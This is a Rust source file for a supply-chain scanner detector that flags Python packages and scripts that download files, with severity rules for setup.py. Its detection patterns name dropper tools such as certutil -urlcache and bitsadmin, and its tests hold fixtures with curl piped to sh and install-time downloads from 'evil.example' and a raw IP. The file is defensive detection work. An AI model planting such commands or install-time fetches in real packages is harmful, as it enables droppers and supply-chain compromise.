//! `network.downloads-file`: the package fetches content from the network and
//! writes it to disk (`urlretrieve`, `urlopen`/`requests`/`httpx`/`http.client`
//! responses written to a file, `wget`/`curl`/`Invoke-WebRequest` command strings).
//!
//! Precise, not keyword bingo: the fetch must be a call in code (a URL in a
//! docstring or comment is not a download) and, except for `urlretrieve`-style
//! APIs, the file must also write bytes. Tests and docs are skipped. High in setup.py,
//! except when every URL it fetches belongs to an owner its own metadata lines name
//! (`url=`, `project_urls`: a prebuilt library from the project's releases; URLs in comments,
//! docstrings and messages shown to a person — a warning, an exception, a print — are not
//! fetched and do not count), or when it sits in
//! a setup.py command pip never runs ([`context::in_maintainer_command`], or a branch for
//! one on the command line, [`context::in_argv_command`]; `sdist` is one: it makes the
//! sdist, installing one never runs it): Medium. Also Medium at install time: a **build
//! input** ([`build_input`]) — the file hands what it fetched to an unpacker, a parser or a
//! digest (`tarfile`, `ZipFile`, `ElementTree`, `json`, `hashlib`: a library's source tarball
//! compiled as an extension, a data table parsed), extracts archives only into a temporary
//! directory, saves each fetch under a data file's name or in a temporary place (never a code
//! file: `.py`, `.pth`, `.so`, `.exe`, `.sh`…; a destination it cannot see — a parameter, an
//! extensionless name — does not count), in the call's statement or through a name bound one
//! assignment deep, and nothing in the file can run code: no process, `exec`/`eval`/`compile`,
//! `chmod`, dynamic import, `sys.path` entry, `ctypes`, `getattr`/`globals`/`__dict__` lookup,
//! in any spelling (a word, not a call: `e = exec` counts). An archive unpacked into the tree
//! stays High: another member could run what it held, by a path no detector sees. Must not:
//! decide whether the download is then executed (`execution.download-and-execute`).

use super::context;
use super::pysrc::{self, Kind, MAX_HITS_PER_FILE};
use crate::model::{Category, FileRole, Severity};
use crate::scan::detector::{Detector, DetectorMeta, Hit, Hits, Interest, TextFile};
use crate::scan::source::Ranges;
use regex::Regex;
use std::sync::LazyLock;

pub(crate) static META: DetectorMeta = DetectorMeta {
    id: "network.downloads-file",
    revision: 8,
    title: "Downloads a file.",
    category: Category::Network,
    severity: Severity::Medium,
    description: "Fetching files at run or install time brings in code and data nobody reviewed with the package; droppers work this way.",
};

/// APIs that save a download by themselves.
pub(crate) static SAVE_API: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:urllib\.request\.urlretrieve|urllib\.urlretrieve|urlretrieve|wget\.download|download_url_to_file|gdown\.download|\.download_file|\.DownloadFile|pycurl\.Curl)\s*\(").expect("save api")
});
/// Fetches whose response must be written by the caller.
pub(crate) static FETCH_API: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:urllib\.request\.urlopen|urllib2\.urlopen|urlopen|requests\.get|requests\.request|httpx\.get|httpx\.stream|http\.client\.HTTPS?Connection|aiohttp\.ClientSession)\s*\(").expect("fetch api")
});
/// Writing bytes to a file.
pub(crate) static WRITE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:\.write\s*\(|\.write_bytes\s*\(|shutil\.copyfileobj\s*\(|open\s*\([^)\n]*['"][wa]b?\+?['"])"#)
        .expect("write")
});
/// Download commands inside strings (or shell scripts).
/// Words every [`COMMAND`] match starts with (case-insensitively).
static COMMAND_WORDS: LazyLock<aho_corasick::AhoCorasick> = LazyLock::new(|| {
    pysrc::gate(&[
        "wget",
        "curl",
        "invoke-webrequest",
        "iwr",
        "start-bitstransfer",
        "certutil",
        "bitsadmin",
        ".downloadfile",
    ])
});

const COMMAND_PATTERN: &str = r"(?i)(?-u:\b)(?:(?:wget|curl)(?:\.exe)?\s[^\n'\x22]*(?:https?|ftp)://|invoke-webrequest(?-u:\b)|(?-u:\b)iwr\s+(?:-uri\s+)?https?://|start-bitstransfer(?-u:\b)|certutil(?:\.exe)?\s+-urlcache|bitsadmin(?:\.exe)?\s+/transfer|\.downloadfile\s*\()";
pub(crate) static COMMAND: LazyLock<Regex> = LazyLock::new(|| Regex::new(COMMAND_PATTERN).expect("command"));
/// [`COMMAND`] for anchored searches ([`pysrc::find_at_words`]).
static COMMAND_AT: LazyLock<regex_automata::meta::Regex> =
    LazyLock::new(|| regex_automata::meta::Regex::new(COMMAND_PATTERN).expect("command"));

/// `COMMAND.find_iter(file.text)`'s ranges, searched once per member for both detectors that
/// ask ([`crate::scan::source::Source::find_ranges_by`]) and only at the words every match
/// starts with ([`pysrc::find_at_words`]).
pub(crate) fn command_ranges(file: &TextFile<'_>) -> Ranges {
    file.source().find_ranges_by(&COMMAND, |_| pysrc::find_at_words(&COMMAND_AT, &COMMAND, file, &COMMAND_WORDS).into())
}

pub(crate) struct DownloadsFile;

/// Severity for a download in `role`.
fn severity(role: FileRole) -> Severity {
    if role == FileRole::InstallTime {
        Severity::High
    } else {
        Severity::Medium
    }
}

impl Detector for DownloadsFile {
    fn meta(&self) -> &'static DetectorMeta {
        &META
    }
    fn interest(&self) -> Interest {
        Interest::Literals(&[
            "urlretrieve",
            "urlopen",
            "requests",
            "httpx",
            "getresponse",
            "wget",
            "curl",
            "Invoke-WebRequest",
            "invoke-webrequest",
            "DownloadFile",
            "download_file",
            "download_url_to_file",
            "BitsTransfer",
            "urlcache",
            "bitsadmin",
            "aiohttp",
            "pycurl",
        ])
    }
    fn scan_text(&self, file: &TextFile<'_>, hits: &mut Hits) {
        if file.role == FileRole::TestOrDocs || file.role == FileRole::Metadata || pysrc::test_member(file) {
            return;
        }
        let own = file.role == FileRole::InstallTime && file.is_python && fetches_only_own_urls(file);
        // Install-time code that fetches a build input it only unpacks or parses (nothing in
        // the file can run what it fetched) is Medium, as the same fetch at run time.
        let input = file.role == FileRole::InstallTime && file.is_python && !own && build_input(file);
        // A setup.py fetching its own release asset (a prebuilt library or binary from the
        // project's own repository or site, as its metadata names it) is Medium.
        let sev = Some(if own || input { Severity::Medium } else { severity(file.role) });
        let mut n = 0;
        let mut push = |hits: &mut Hits, off: usize, ind: &str| {
            if n < MAX_HITS_PER_FILE {
                n += 1;
                let by_hand = file.role == FileRole::InstallTime
                    && (context::in_maintainer_command(file.source(), off)
                        || context::in_argv_command(file.source(), off));
                let (sev, ind) = match (own, by_hand) {
                    (true, _) => (sev, format!("{ind} (the project's own URL)")),
                    (false, false) if input => {
                        (sev, format!("{ind} (a build input: unpacked or parsed, nothing in the file runs code)"))
                    }
                    (false, true) => (Some(Severity::Medium), format!("{ind} (in a setup.py command pip never runs)")),
                    (false, false) => (sev, ind.to_string()),
                };
                hits.push(&META, Hit { severity: sev, evidence: pysrc::evidence(file, off, ind) });
            }
        };
        if !file.is_python {
            // Shell, batch and PowerShell scripts shipped in the package.
            let script = [".sh", ".bash", ".bat", ".cmd", ".ps1", ".psm1"]
                .iter()
                .any(|e| file.path.to_ascii_lowercase().ends_with(e));
            if script {
                for &(start, end) in command_ranges(file).iter() {
                    push(hits, start, command_name(&file.text[start..end]));
                }
            }
            return;
        }
        let src = file.source();
        for m in SAVE_API.find_iter(file.text) {
            if src.is_code(m.start()) && !pysrc::is_definition(file.text, m.start()) {
                push(hits, m.start(), m.as_str().trim_end_matches('(').trim_end().trim_start_matches('.'));
            }
        }
        let writes = WRITE.find_iter(file.text).any(|w| src.is_code(w.start()));
        if writes {
            for m in FETCH_API.find_iter(file.text) {
                if src.is_code(m.start()) && !pysrc::is_definition(file.text, m.start()) {
                    let name = m.as_str().trim_end_matches('(').trim_end();
                    push(hits, m.start(), name);
                }
            }
        }
        for &(start, end) in command_ranges(file).iter() {
            if src.kind_at(start) == Kind::Str {
                push(hits, start, command_name(&file.text[start..end]));
            }
        }
    }
}

/// Words of code that can run something — a process, built code, a module by name, a file
/// made executable, a name looked up at run time — in any spelling: a word, not a call
/// (`e = exec; e(…)` and `from subprocess import run as r` count). `platform.system()` is a
/// query, not `os.system`.
static RUNS_CODE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r"(?-u:\b)(?:subprocess|Popen|popen[234]?|spawn\w*|exec(?:[lv]p?e?)?|eval|compile|execfile|startfile|",
        r"posix_spawnp?|pty|commands|getoutput|check_call|check_output|ctypes|cffi|CDLL|WinDLL|LoadLibrary\w*|",
        r"runpy|run_path|run_module|import_module|__import__|importlib|exec_module|load_source|load_module|",
        r"SourceFileLoader|spec_from_file_location|zipimport|chmod|addsitedir|getattr|globals|locals|vars|",
        r"__builtins__|builtins|__dict__|marshal|pickle|dill|shelve|executable|webbrowser|sh)(?-u:\b)",
        r"|(?-u:\b)os\s*\.\s*system(?-u:\b)|(?-u:\b)import\s+[^\n]*(?-u:\b)system(?-u:\b)|(?-u:\b)sys\s*\.\s*path(?-u:\b)",
    ))
    .expect("runs code")
});

/// What a build input is handed to: an unpacker, a parser or a digest.
static UNPACKS_OR_PARSES: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:extractall|extract|ZipFile|TarFile|tarfile|zipfile|unpack_archive|etree|ElementTree|minidom|json|csv|hashlib|sha256|sha512|md5)(?-u:\b)")
        .expect("unpacks or parses")
});

/// A string literal naming a file that holds or is code: a destination a download must not have.
static CODE_FILE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)\.(?:py|pyw|pyc|pyo|pth|pyd|so|dylib|dll|exe|scr|com|msi|jar|sh|bash|bat|cmd|ps1|vbs|js|whl|egg)['"]"#,
    )
    .expect("code file")
});

/// Words of code that extract an archive.
static EXTRACTS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?-u:\b)(?:extractall|extract|unpack_archive)\s*\(").expect("extracts"));

/// A temporary directory or file: where an unpacked build input is out of the tree's reach.
static TEMP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?-u:\b)(?:mkdtemp|TemporaryDirectory|gettempdir|mkstemp|NamedTemporaryFile|tempfile)(?-u:\b)")
        .expect("temp")
});

/// A string literal naming a data file (a document, a table, an archive, a signature, a model):
/// what a build input is saved as.
static DATA_FILE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)\.(?:xml|json|csv|tsv|txt|dat|dic|zip|tar|gz|tgz|bz2|xz|zst|7z|asc|sig|sha256|pem|crt|npz|npy|bin|db|sqlite|parquet|pb|onnx|pt|safetensors|html?|md|rst|ya?ml|toml)['"]"#)
        .expect("data file")
});

/// Whether an install-time Python file fetches only build inputs: what it fetched goes to an
/// unpacker, a parser or a digest; every archive it extracts is extracted into a temporary
/// directory (out of reach of another member that could run what was unpacked); every fetch,
/// save or write-mode `open` names, in its line or through a name bound one assignment deep, a
/// data file or a temporary place and no code file; and no word of its code can run anything
/// ([`RUNS_CODE`]). A destination it cannot see (a parameter, a name bound elsewhere) is not a
/// build input.
pub(crate) fn build_input(file: &TextFile<'_>) -> bool {
    let src = file.source();
    let text = file.text;
    let code =
        |re: &Regex| re.find_iter(text).filter(|m| src.is_code(m.start())).map(|m| m.start()).collect::<Vec<_>>();
    if !code(&RUNS_CODE).is_empty() || code(&UNPACKS_OR_PARSES).is_empty() {
        return false;
    }
    let line_start = |off: usize| text[..off].rfind('\n').map_or(0, |i| i + 1);
    // A statement's text from its line: continuation lines while brackets stay open (at most 8).
    let statement = |line_start: usize| {
        let mut end = line_start;
        let mut depth = 0i32;
        for (i, line) in text[line_start..].split_inclusive('\n').enumerate() {
            end += line.len();
            depth += line.matches(['(', '[', '{']).count() as i32 - line.matches([')', ']', '}']).count() as i32;
            if depth <= 0 || i >= 8 {
                break;
            }
        }
        &text[line_start..end]
    };
    // Names bound (`name = …`, `with … as name`) on a statement naming a code file, a data file
    // or a temporary place: one pass over the lines.
    let (mut to_code, mut to_data) = (std::collections::HashSet::new(), std::collections::HashSet::new());
    let mut at = 0;
    for line in text.split_inclusive('\n') {
        let names: Vec<&str> = ASSIGNED
            .captures(line)
            .map(|c| c.get(1).expect("name").as_str())
            .into_iter()
            .chain(WITH_AS.captures_iter(line).map(|c| c.get(1).expect("name").as_str()))
            .collect();
        if !names.is_empty() {
            let st = statement(at);
            let (code_file, data) = (CODE_FILE.is_match(st), DATA_FILE.is_match(st) || TEMP.is_match(st));
            for n in names {
                if code_file {
                    to_code.insert(n);
                } else if data {
                    to_data.insert(n);
                }
            }
        }
        at += line.len();
    }
    fn words(a: &str) -> impl Iterator<Item = &str> {
        a.split(|c: char| !(c.is_ascii_alphanumeric() || c == '_')).filter(|w| !w.is_empty())
    }
    let names_code = |a: &str| CODE_FILE.is_match(a) || words(a).any(|w| to_code.contains(w));
    let names_data = |a: &str| DATA_FILE.is_match(a) || TEMP.is_match(a) || words(a).any(|w| to_data.contains(w));
    // Extractions: into a temporary place only.
    // The extraction's arguments (from its call on), not the archive it is called on.
    if code(&EXTRACTS).into_iter().any(|o| {
        let st = statement(line_start(o));
        let args = &st[o - line_start(o)..];
        !names_data(args) || !TEMP.is_match(text) || names_code(args)
    }) {
        return false;
    }
    // Destinations: every save API's and write-mode open's line names a data file or a temp place.
    let mut dests = code(&SAVE_API);
    dests.extend(code(&WRITE).into_iter().filter(|&o| text[o..].starts_with("open")));
    dests.into_iter().all(|o| {
        let st = statement(line_start(o));
        !names_code(st) && names_data(st)
    })
}

/// `with … as name` (also `as (a, b)` is not followed): the name bound.
static WITH_AS: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?-u:\b)as[ \t]+([A-Za-z_]\w*)[ \t]*[:,)]").expect("with as"));

/// `name = …` / `self.name = …` at a line's start (not `==`): the name bound.
static ASSIGNED: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[ \t]*(?:[A-Za-z_]\w*\.)*([A-Za-z_]\w*)[ \t]*(?::[^=\n]*)?=[^=]").expect("assigned")
});

/// Lines of a setup.py that name the project's own place: `url=`, `download_url=`,
/// `project_urls` entries (`"Homepage"`, `"Source"`, `"Repository"`, …).
static OWN_LINE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?i)(?:(?-u:\b)(?:url|download_url|home_?page)\s*=|['"](?:homepage|home|source|source code|repository|code|download|releases|github)['"]\s*:)"#)
        .expect("own line")
});

/// What identifies a URL's owner: `github.com/<owner>` on code hosts, else the registrable domain.
fn owner_key(u: &super::urls::FoundUrl<'_>) -> String {
    const CODE_HOSTS: &[&str] = &["github.com", "gitlab.com", "bitbucket.org", "codeberg.org"];
    if CODE_HOSTS.contains(&u.host.as_str()) {
        let owner = u.path.trim_start_matches('/').split('/').next().unwrap_or("").to_ascii_lowercase();
        format!("{}/{owner}", u.host)
    } else {
        u.registrable().to_string()
    }
}

/// Whether every URL a setup.py names outside its metadata lines belongs to an owner its
/// metadata lines name (`url="https://github.com/acme/tool"` and a download from
/// `https://github.com/acme/tool/releases/download/…`). No URL at all (built from the
/// environment or elsewhere) is not "own".
pub(crate) fn fetches_only_own_urls(file: &TextFile<'_>) -> bool {
    let src = file.source();
    let line_of = |off: usize| {
        let start = file.text[..off].rfind('\n').map_or(0, |i| i + 1);
        let end = file.text[off..].find('\n').map_or(file.text.len(), |i| off + i);
        &file.text[start..end]
    };
    let (mut own, mut fetched) = (Vec::new(), Vec::new());
    for u in super::urls::find(src) {
        if shown_to_a_person(src, u.offset) {
            continue; // a URL in a warning or error message is read, not fetched
        }
        if OWN_LINE.is_match(line_of(u.offset)) {
            own.push(owner_key(&u));
        } else {
            fetched.push(owner_key(&u));
        }
    }
    !fetched.is_empty() && fetched.iter().all(|k| own.contains(k))
}

/// Calls whose arguments are text shown to a person: printing, warnings, log lines, exceptions.
static MESSAGE_CALL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^[ \t]*(?:raise[ \t]+)?(?:[\w.]+\.)?(?:print|warn|warning|info|debug|error|exception|critical|echo|secho|\w*(?:Error|Exception|Warning))[ \t]*$")
        .expect("message call")
});

/// Whether the string literal at `off` is an argument of a call that shows text to a person
/// (`warnings.warn("… https://…")`, `raise RuntimeError(f"see https://…")`, `print(…)`), over
/// lines too: the innermost call open around it, found by balancing the parentheses of the code,
/// is a statement of its own (a message inside a fetch's argument is still fetched).
fn shown_to_a_person(src: &super::pysrc::Source<'_>, off: usize) -> bool {
    if src.kind_at(off) != Kind::Str {
        return false;
    }
    let b = src.text.as_bytes();
    let floor = off.saturating_sub(2000);
    let mut depth = 0usize;
    let mut i = off;
    while i > floor {
        i -= 1;
        if !src.is_code(i) {
            continue;
        }
        match b[i] {
            b')' | b']' | b'}' => depth += 1,
            b'[' | b'{' if depth == 0 => return false,
            b'(' if depth == 0 => {
                let ls = src.text[..i].rfind('\n').map_or(0, |p| p + 1);
                return MESSAGE_CALL.is_match(&src.text[ls..i]);
            }
            b'(' | b'[' | b'{' => depth -= 1,
            _ => {}
        }
    }
    false
}

/// The command word of a COMMAND match: `curl`, `wget`, `Invoke-WebRequest`…
pub(crate) fn command_name(m: &str) -> &'static str {
    let l = m.to_ascii_lowercase();
    if l.starts_with("wget") {
        "wget"
    } else if l.starts_with("curl") {
        "curl"
    } else if l.starts_with("invoke-webrequest") || l.starts_with("iwr") {
        "Invoke-WebRequest"
    } else if l.starts_with("start-bits") {
        "Start-BitsTransfer"
    } else if l.starts_with("certutil") {
        "certutil -urlcache"
    } else if l.starts_with("bitsadmin") {
        "bitsadmin /transfer"
    } else {
        "WebClient.DownloadFile"
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scan::detectors::testutil::table;
    use FileRole::*;
    use Severity::*;

    #[test]
    fn command_search_at_its_words_is_the_whole_search() {
        let check = |name: &str, text: &str| {
            let whole: Vec<(usize, usize)> = COMMAND.find_iter(text).map(|m| (m.start(), m.end())).collect();
            for (path, python) in [("pkg/a.py", true), ("tools/get.sh", false)] {
                let file = TextFile::new(path, FileRole::Runtime, python, text);
                assert_eq!(&command_ranges(&file)[..], &whole[..], "{name} ({path})");
                // Searched once per member, whichever detector asks first.
                assert_eq!(&command_ranges(&file)[..], &whole[..], "{name} ({path}), asked again");
                assert_eq!(file.source().searches(), 1, "{name} ({path})");
            }
            whole.len()
        };
        let cases = [
            ("empty", ""),
            ("curl and wget", "os.system('curl -sL https://x/a -o a'); 'WGET.EXE  http://x/b'"),
            ("ftp", "'wget ftp://x/a'"),
            ("powershell", "Invoke-WebRequest -Uri u; iwr -Uri https://x/a; IWR https://x"),
            (
                "bits and certutil",
                "Start-BitsTransfer -Source u; certutil.exe  -urlcache -f u; bitsadmin /transfer j u",
            ),
            ("web client", "(New-Object Net.WebClient).DownloadFile('u', 'a')"),
            ("words inside words", "excurl https://x; wgetter http://x; xiwr https://x; a.downloadfilex("),
            ("no URL", "curl -X POST $HOST; wget --help"),
            ("across a line", "curl -sL\nhttps://x/a"),
            ("quote stops it", "curl '-H' https://x"),
            ("non-ASCII text", "é curl https://x; ſtart-bitstransfer; ſ"),
        ];
        for (name, text) in cases {
            check(name, text);
        }
        let pieces = [
            "curl",
            "WGET",
            ".exe",
            " ",
            "\t",
            "\n",
            "'",
            "https://",
            "ftp://",
            "x",
            "-Uri ",
            "iwr",
            "Invoke-WebRequest",
            "start-bitstransfer",
            "certutil",
            " -urlcache",
            "bitsadmin",
            " /transfer",
            ".DownloadFile(",
            "_",
            "é",
            "ſ",
        ];
        let mut found = 0;
        for text in super::pysrc::random_texts(&pieces, 24, 0x9e37_79b9_7f4a_7c15u64, 3000) {
            found += check(&text, &text);
        }
        assert!(found > 300, "the random texts hold matches: {found}");
    }

    /// Hostile input: 20,000 repeats of each text [`build_input`] loops over (assignments naming
    /// data and code files, multi-line fetches into a temp dir, extractions) are judged in
    /// linear time: every statement is read at most 9 lines ahead, names are looked up in sets.
    #[test]
    fn build_input_costs_linear_time_on_hostile_repeats() {
        let pieces = [
            ("assignments", "dst = os.path.join(tmp, 'a.xml')\n"),
            ("multi-line fetches", "urlretrieve(\n    u,\n    os.path.join(tmp, 'a.tar.gz'),\n)\n"),
            ("extractions", "t.extractall(tmp)\n"),
            ("open brackets", "x = (\n"),
        ];
        for (name, piece) in pieces {
            let text = format!("import tarfile, tempfile\ntmp = tempfile.mkdtemp()\n{}", piece.repeat(20_000));
            let file = TextFile::new("setup.py", FileRole::InstallTime, true, &text);
            let t = std::time::Instant::now();
            let _ = build_input(&file);
            let took = t.elapsed();
            assert!(took < std::time::Duration::from_secs(5), "{name}: {took:?} for {} bytes", text.len());
        }
    }

    #[test]
    fn cases() {
        table(
            &DownloadsFile,
            META.id,
            &[
                ("urlretrieve", "pkg/a.py", Runtime, "import urllib.request\nurllib.request.urlretrieve(URL, 'x.bin')\n", Some((2, "urllib.request.urlretrieve", Medium))),
                ("urlretrieve in setup.py", "setup.py", InstallTime, "from urllib.request import urlretrieve\nurlretrieve(u, p)\n", Some((2, "urlretrieve", High))),
                (
                    "a maintainer's update command in setup.py",
                    "setup.py",
                    InstallTime,
                    "class UpdateList(Command):\n    def run(self):\n        urlretrieve(LIST_URL, 'src/pkg/list.dat')\n\nsetup(name='x', cmdclass={'update_list': UpdateList})\n",
                    Some((3, "urlretrieve (in a setup.py command pip never runs)", Medium)),
                ),
                (
                    "an sdist override that downloads a library to vendor it into the sdist",
                    "vesin-0.6.2/setup.py",
                    InstallTime,
                    "class sdist_with_lib(sdist):\n    def run(self):\n        urllib.request.urlretrieve(f'https://example.org/lib/{commit}.tar.gz', archive)\n        super().run()\n\nsetup(cmdclass={'sdist': sdist_with_lib, 'build_ext': cmake_ext})\n",
                    Some((3, "urllib.request.urlretrieve (in a setup.py command pip never runs)", Medium)),
                ),
                (
                    "the same override registered as build_py stays high",
                    "pkg-1.0/setup.py",
                    InstallTime,
                    "class sdist_with_lib(sdist):\n    def run(self):\n        urllib.request.urlretrieve(f'https://example.org/lib/{commit}.tar.gz', archive)\n        super().run()\n\nsetup(cmdclass={'build_py': sdist_with_lib})\n",
                    Some((3, "urllib.request.urlretrieve", High)),
                ),
                (
                    "a release check in a branch for a command pip never runs",
                    "setup.py",
                    InstallTime,
                    "import sys\nif len(sys.argv) >= 2 and sys.argv[1] == 'pypi':\n    with open('ref.html', 'wb') as f:\n        f.write(urlopen(REF_URL).read())\nsetup(name='x')\n",
                    Some((4, "urlopen (in a setup.py command pip never runs)", Medium)),
                ),
                (
                    "a download in a branch for a pip command stays high",
                    "setup.py",
                    InstallTime,
                    "import sys\nif sys.argv[1] in ('install', 'bdist_wheel'):\n    urlretrieve(URL, 'x.bin')\nsetup(name='x')\n",
                    Some((3, "urlretrieve", High)),
                ),
                (
                    "the same command registered as build_py stays high",
                    "setup.py",
                    InstallTime,
                    "class UpdateList(Command):\n    def run(self):\n        urlretrieve(LIST_URL, 'src/pkg/list.dat')\n\nsetup(name='x', cmdclass={'build_py': UpdateList})\n",
                    Some((3, "urlretrieve", High)),
                ),
                (
                    "requests content written",
                    "pkg/a.py",
                    Runtime,
                    "import requests\nr = requests.get('https://example.org/p.bin')\nwith open('p.bin', 'wb') as f:\n    f.write(r.content)\n",
                    Some((2, "requests.get", Medium)),
                ),
                ("urlopen + write", "pkg/a.py", Runtime, "data = urlopen(u).read()\nopen(p, 'wb').write(data)\n", Some((1, "urlopen", Medium))),
                ("curl in subprocess string", "pkg/a.py", Runtime, "os.system('curl -s https://example.org/x -o /tmp/x')\n", Some((1, "curl", Medium))),
                ("shell script wget", "pkg/get.sh", Runtime, "#!/bin/sh\nwget http://example.org/x\n", Some((2, "wget", Medium))),
                ("powershell", "pkg/a.py", Runtime, "cmd = 'powershell Invoke-WebRequest -Uri $u -OutFile x'\n", Some((1, "Invoke-WebRequest", Medium))),
                (
                    "setup.py fetching its own release asset",
                    "setup.py",
                    InstallTime,
                    "from urllib.request import urlretrieve\nBASE = 'https://github.com/acme/tool/releases/download/v1.0/'\nurlretrieve(BASE + 'libtool.so', p)\nsetup(name='tool', url='https://github.com/acme/tool')\n",
                    Some((3, "urlretrieve (the project's own URL)", Medium)),
                ),
                (
                    "setup.py fetching its own prebuilt wheel, a warning naming another host",
                    "setup.py",
                    InstallTime,
                    "BASE_WHEEL_URL = 'https://github.com/acme/tool/releases/download/{tag}/{name}'\ndef check():\n    warnings.warn(\n        f'{opt} was requested, but nvcc was not found. '\n        'If you install within a container from https://hub.docker.com/r/x/y, '\n        'only devel images provide nvcc.'\n    )\n    raise RuntimeError('see https://docs.example.org/build')\nclass CachedWheels(bdist_wheel):\n    def run(self):\n        urllib.request.urlretrieve(BASE_WHEEL_URL.format(tag=t, name=n), n)\nsetup(name='tool', url='https://github.com/acme/tool', cmdclass={'bdist_wheel': CachedWheels})\n",
                    Some((11, "urllib.request.urlretrieve (the project's own URL)", Medium)),
                ),
                (
                    "another owner's URL inside a message call nested in the fetch",
                    "setup.py",
                    InstallTime,
                    "urlretrieve(str(Warning('https://evil.example/p.bin')), p)\nsetup(name='tool', url='https://github.com/acme/tool')\n",
                    Some((1, "urlretrieve", High)),
                ),
                (
                    "another owner's URL assigned, a message naming the project's own",
                    "setup.py",
                    InstallTime,
                    "U = 'https://evil.example/p.bin'\nprint('see https://github.com/acme/tool')\nurlretrieve(U, p)\nsetup(name='tool', url='https://github.com/acme/tool')\n",
                    Some((3, "urlretrieve", High)),
                ),
                (
                    "setup.py fetching from another owner on the same code host",
                    "setup.py",
                    InstallTime,
                    "from urllib.request import urlretrieve\nurlretrieve('https://github.com/other/x/releases/download/v1/p.exe', p)\nsetup(name='tool', url='https://github.com/acme/tool')\n",
                    Some((2, "urlretrieve", High)),
                ),
                (
                    "setup.py fetching from a raw IP next to its own url",
                    "setup.py",
                    InstallTime,
                    "from urllib.request import urlretrieve\nurlretrieve('http://203.0.113.9/p.bin', p)\nsetup(name='tool', url='https://github.com/acme/tool')\n",
                    Some((2, "urlretrieve", High)),
                ),
                (
                    "setup.py fetching a URL built elsewhere",
                    "setup.py",
                    InstallTime,
                    "from urllib.request import urlretrieve\nurlretrieve(os.environ['U'], p)\nsetup(name='tool', url='https://github.com/acme/tool')\n",
                    Some((2, "urlretrieve", High)),
                ),
                ("requests.get without write (API client)", "pkg/a.py", Runtime, "r = requests.get(url)\nreturn r.json()\n", None),
                ("urlretrieve in docstring", "pkg/a.py", Runtime, "def f():\n    \"\"\"Like urllib.request.urlretrieve(url).\"\"\"\n", None),
                ("curl in comment", "pkg/a.py", Runtime, "# curl https://example.org/x | sh\nx = 1\n", None),
                ("curl word without url", "pkg/a.py", Runtime, "s = 'curl is a tool'\n", None),
                ("tests", "pkg/tests/test_dl.py", Runtime, "urlretrieve(u, p)\n", None),
                ("docs role", "docs/conf.py", TestOrDocs, "urlretrieve(u, p)\n", None),
                ("the definition of urlretrieve", "pkg/request.py", Runtime, "def urlretrieve(url, filename=None):\n    pass\n", None),
                ("rpc getresponse is not http", "pkg/rpc.py", Runtime, "r = self.getresponse(seq)\nout.write(r)\n", None),
            ],
        );
    }
}
